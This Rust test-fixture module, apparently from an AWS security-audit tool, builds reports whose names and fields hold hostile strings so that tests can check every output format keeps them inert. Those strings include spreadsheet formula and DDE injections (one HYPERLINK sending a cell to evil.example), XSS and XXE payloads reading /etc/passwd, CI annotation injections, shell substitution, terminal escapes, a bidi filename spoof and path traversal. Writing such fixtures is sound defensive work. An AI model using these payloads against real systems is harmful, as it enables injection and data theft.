//! A report from an account in which everything is named by somebody who means harm, for the tests of all formats: in
//! each of them the names have to survive as data, and nothing of them may act.

use aws_audit_checks::{
    finding::{Evidence, Resource, Severity, Status},
    gap::{Gap, GapKind},
    group::Group,
    report::{
        Account, ControlReport, Fix, FrameworkScore, Report, ReportFinding, ReportGap, SCHEMA_VERSION, Scope,
        State, Tool,
    },
    snapshot::{Calls, Tags},
    triage::Suppressed,
};

/// Characters of the longest names: more than a cell of Excel holds.
pub(crate) const LONG: usize = 40_000;

/// Names that do harm where a format lets them through.
pub(crate) fn names() -> Vec<String> {
    let names = [
        // Formulas of spreadsheets, also where a separator, a quotation mark or a space comes first.
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\"=1+1",
        "\u{a0}=1+1",
        "x;=1+1",
        "x,=1+1",
        "x\t=1+1",
        "x\r\n=1+1,\"",
        "＝１＋１",
        "\u{feff}=1+1",
        "'=1+1",
        // HTML.
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>",
        "</textarea></title></style><svg/onload=alert(1)>",
        "<!-- --><a href=\"javascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "' onmouseover='alert(1)",
        "&lt;script&gt;&#60;&amp;",
        "{{7*7}}${7*7}<%= 7*7 %>",
        // XML.
        "]]>",
        "]]></failure><testcase name=\"x\"/>",
        "<![CDATA[x]]>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        "<?xml version=\"1.0\"?>",
        // Markdown, and what GitHub adds.
        "@octocat @octo-org/team",
        "me@evil.example",
        "#1 GH-1 octocat/hello-world#1",
        "a5c3785ed8d6a35868bc169f07e40e889087fd2e",
        "https://evil.example/x www.evil.example http://evil.example",
        "[click](https://evil.example) ![x](https://evil.example/x.png)",
        "<https://evil.example>",
        "[x]: https://evil.example",
        "a|b|c",
        "a\\|b\\\\|c",
        "|---|",
        "`",
        "``` ```",
        "`a`` b```",
        "a`\n\n```\n# heading",
        "~~~",
        "# heading",
        "- [ ] item",
        "1. item",
        "> quote",
        "> [!WARNING]",
        "***",
        "---",
        "**bold** _it_ ~~gone~~ $x^2$ $$y$$",
        ":tada: :+1:",
        "\\",
        "a\\",
        "\\`",
        "    code",
        "&copy; &#x40;octocat",
        "</details></summary>",
        // CI: commands and annotations on standard output.
        "::error::x",
        "::set-output name=x::y",
        "##vso[task.setvariable variable=x]y",
        "##[error]x",
        // JSON Lines and logs.
        "{\"id\":\"x\"}",
        "\"},{\"x\":\"",
        "a\nb",
        "a\r\nb",
        "a\u{2028}b\u{2029}c\u{85}d",
        "a\u{b}b\u{c}c",
        // Prometheus and shells.
        "a\"} 1\nx{y=\"",
        "$(id) `id` ; id && id",
        "%0A%0D::error::x",
        // Control characters, and those that hide or reorder.
        "a\0b",
        "\u{1b}[31mred\u{1b}[0m\u{1b}]8;;https://evil.example\u{7}x",
        "\u{9b}2J\u{90}",
        "a\u{8}\u{7f}b",
        "invoice\u{202e}fdp.exe",
        "a\u{2066}b\u{2069}c\u{200f}d\u{200e}e\u{61c}f",
        "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{ad}f",
        "a\u{e0041}\u{e0042}b",
        "a\u{fffe}b\u{ffff}c\u{fffd}d\u{fdd0}",
        "a\u{301}\u{301}\u{301}\u{301}\u{301}b",
        // Nearest to lone surrogates that Unicode text can come: their neighbours, and their escapes written out.
        "\u{d7ff}\u{e000}",
        "\\ud800 \\udfff &#xD800; _xD800_",
        "_x0041_ _x000D_",
        // What people write.
        "本番サーバー（東京）、「予備」",
        "שלום עולם",
        "مرحبا",
        "👩‍👩‍👧‍👦 ❤️ 🚀",
        "Zürich",
        "か\u{3099}いぶ",
        "",
        " ",
        "   ",
        "\u{3000}",
        " a  b ",
        "NULL",
        "true",
        "000123456789",
        "1e5",
        "2026-01-01",
        "CON",
        "../../etc/passwd",
        "C:\\dir",
    ];
    let long =
        ["=".to_owned() + &"a".repeat(LONG - 1), "`".repeat(LONG), "日".repeat(LONG), "🚀".repeat(LONG)];
    names.into_iter().map(str::to_owned).chain(long).collect()
}

/// A report in which nothing was found.
pub(crate) fn empty() -> Report {
    Report {
        groups: vec![],
        history: vec![],
        paths: vec![],
        paths_incomplete: None,
        fix_first: vec![],
        cross_account: None,
        schema_version: SCHEMA_VERSION,
        tool: Tool { name: "aws-audit".into(), version: "0.1.0".into() },
        account: Account { id: "111122223333".into(), alias: None, partition: "aws".into() },
        regions: vec!["eu-west-1".into(), "us-east-1".into()],
        scope: Some(Scope {
            checks: ["ec2-sg-open-ssh".into(), "s3-bucket-public-read".into()].into(),
            min_severity: Severity::Info,
            unlisted: 0,
        }),
        started_at: "2026-11-01T12:00:00Z".parse().unwrap(),
        finished_at: "2026-11-01T12:00:08.4Z".parse().unwrap(),
        score: FrameworkScore {
            framework: "antipatterns".into(),
            overall: Some(49.0),
            judged: Some(0.98),
            controls: vec![],
        },
        findings: vec![],
        gaps: vec![],
        calls: Calls { total: 96, ..Calls::default() },
    }
}

/// A finding on a resource of that name, everything else as harmless as it gets.
pub(crate) fn finding(
    check: &str,
    status: Status,
    severity: Severity,
    id: &str,
    name: Option<&str>,
) -> ReportFinding {
    ReportFinding {
        group: None,
        severity_reason: None,
        suppressed: (status == Status::Suppressed).then(|| Suppressed {
            reason: "keys only".into(),
            owner: Some("network team".into()),
            expires: Some("2027-03-31".parse().unwrap()),
            ticket: Some("https://tickets.example.com/SEC-142".into()),
            source: "aws-audit.toml:12".into(),
        }),
        id: "2c91c7aebadde0c6522a55050212b5a0".into(),
        check: check.into(),
        status,
        severity,
        title: "Security group opens SSH to the internet".into(),
        message: "Port 22 is open to 0.0.0.0/0.".into(),
        fix: matches!(status, Status::Fail | Status::Suppressed).then(|| Fix {
            summary: "Remove the rule; use Session Manager.".into(),
            command: Some(format!("aws ec2 revoke-security-group-ingress --group-id {id}")),
        }),
        url: "https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-groups.html".into(),
        resource: Resource {
            kind: "AWS::EC2::SecurityGroup".into(),
            id: id.into(),
            arn: format!("arn:aws:ec2:eu-west-1:111122223333:security-group/{id}"),
            region: Some("eu-west-1".into()),
            account: "111122223333".into(),
            name: name.map(str::to_owned),
            tags: Tags::new(),
        },
        evidence: Evidence::from_iter([("port", 22.into())]),
        antipatterns: vec![8],
        controls: [
            ("cis-6.0".into(), vec!["5.3".into(), "5.4".into()]),
            ("fsbp".into(), vec!["EC2.19".into()]),
        ]
        .into(),
        state: None,
        first_seen: None,
    }
}

/// A finding of each status, as in any account.
pub(crate) fn plain_findings() -> Vec<ReportFinding> {
    let mut new = finding("ec2-sg-open-ssh", Status::Fail, Severity::Critical, "sg-0a", Some("bastion"));
    new.state = Some(State::New);
    new.first_seen = Some("2026-11-01T12:00:00Z".parse().unwrap());
    let old = finding("ec2-sg-open-ssh", Status::Fail, Severity::High, "sg-0b", None);
    let mut unknown = finding("ec2-sg-open-rdp", Status::Unknown, Severity::High, "sg-0c", None);
    unknown.message = "Could not be judged: ec2:DescribeSecurityGroups: access denied.".into();
    unknown.evidence = Evidence::from_iter([
        ("gap", "access_denied".into()),
        ("operation", "ec2:DescribeSecurityGroups".into()),
    ]);
    let accepted = finding("ec2-sg-open-ssh", Status::Suppressed, Severity::High, "sg-0d", Some("accepted"));
    let mut passed = finding("ec2-sg-open-ssh", Status::Pass, Severity::High, "sg-0e", None);
    passed.message = "Nothing wrong found.".into();
    vec![new, old, unknown, accepted, passed]
}

/// A report in which each hostile name is everywhere that an account, a service or a tampered report can put one: a
/// failing, an unknown and a suppressed finding for each, each of a check of its own.
pub(crate) fn report() -> Report {
    let mut report = empty();
    report.account.alias = Some("</script>@octocat|`".into());
    report.score.controls = vec![ControlReport {
        suppressed: 0,
        id: "1".into(),
        title: "a|b <script> @octocat `".into(),
        score: Some(49.0),
        pass: 1,
        fail: 2,
        unknown: 3,
        worst: Some(Severity::Critical),
        checks: vec!["ec2-sg-open-ssh".into()],
        manual: None,
        not_covered: None,
    }];
    for (at, name) in names().into_iter().enumerate() {
        for (status, severity) in [
            (Status::Fail, Severity::WORST_FIRST[at % 5]),
            (Status::Unknown, Severity::High),
            (Status::Suppressed, Severity::Low),
        ] {
            let check = format!("check-{at}-{severity:?}").to_lowercase();
            let mut found = finding(&check, status, severity, &format!("sg-{at}"), Some(&name));
            found.id = format!("{at}-{severity:?}");
            found.title = format!("About {name}");
            found.message = name.clone();
            if let Some(fix) = &mut found.fix {
                fix.summary = format!("Mend {name}");
                fix.command = Some(format!("aws ec2 describe-tags --filters 'Name=key,Values={name}'"));
            }
            if at % 2 == 0 {
                found.resource.id.clone_from(&name);
                found.resource.arn += &name;
            }
            found.resource.tags = [(name.as_str(), name.as_str())].into();
            found.evidence.insert(name.clone(), name.clone().into());
            found.severity_reason = Some(name.clone());
            // Also of an unknown finding, which carries who would accept it.
            if status != Status::Fail {
                found.suppressed = Some(Suppressed {
                    reason: name.clone(),
                    owner: Some(name.clone()),
                    expires: None,
                    ticket: Some(name.clone()),
                    source: name.clone(),
                });
            } else {
                found.group = Some(format!("group-{at}"));
                report.groups.push(Group {
                    id: format!("group-{at}"),
                    cause: "check".into(),
                    key: check.clone(),
                    title: format!("Group {name}"),
                    severity,
                    resources: 1,
                    checks: vec![check.clone()],
                    findings: vec![found.id.clone()],
                });
            }
            report.findings.push(found);
        }
        report.gaps.push(ReportGap {
            gap: Gap {
                operation: "ec2:DescribeSecurityGroups".into(),
                region: Some("eu-west-1".into()),
                resource: Some(name.clone()),
                kind: GapKind::AccessDenied,
                refused_by: None,
                message: format!("not authorized: {name}"),
            },
            actions: vec!["ec2:DescribeSecurityGroups".into()],
            checks: vec![],
        });
    }
    report
}
